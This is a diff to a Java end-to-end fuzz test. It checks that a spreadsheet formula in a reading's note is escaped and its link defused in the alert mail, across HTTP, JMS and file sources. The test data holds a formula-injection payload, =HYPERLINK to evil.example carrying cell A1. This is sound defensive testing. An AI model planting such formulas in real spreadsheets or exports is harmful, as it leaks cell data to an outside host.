@@ -393,7 +393,8 @@ class FuzzEndToEndTest {
     void a_reading_whose_note_is_a_spreadsheet_formula_with_markup_is_taken_from_every_source_and_its_note_comes_back_escaped_in_the_alert_mail()
             throws Exception {
         String note = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"<b>Click</b>\")";
-        String escaped = "=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;&lt;b&gt;Click&lt;/b&gt;&quot;)";
+        // quoted as the partner's, its link defused (no mail reader makes it one)
+        String escaped = "kfrs wrote: \u201c=HYPERLINK(&quot;http[:]//evil.example/?q=&quot;&amp;A1,&quot;&lt;b&gt;Click&lt;/b&gt;&quot;)\u201d";
         // when a RED reading with that note comes in by each source
         String reading = HostileInputs.reading(KSI, "fuzz-injection-http", "2017", "70", "kfrs", null, note);
         assertEquals(202, app.postReadings("lead", reading).statusCode());
@@ -404,7 +405,7 @@ class FuzzEndToEndTest {
         for (String area : List.of("fuzz-injection-http", "fuzz-injection-jms", "fuzz-injection-file")) {
             // then it is taken and rated RED
             assertEquals("RED", app.awaitAssessment(KSI, area, "2017").get("rating").asText());
-            // and the lead's alert mail shows the note, escaped, never as markup
+            // and the lead's alert mail shows the note, escaped, never as markup or a link
             String html = await("the alert mail about " + area).atMost(PATIENCE)
                     .until(() -> mailHtml(area), Optional::isPresent).orElseThrow();
             assertAll(area,
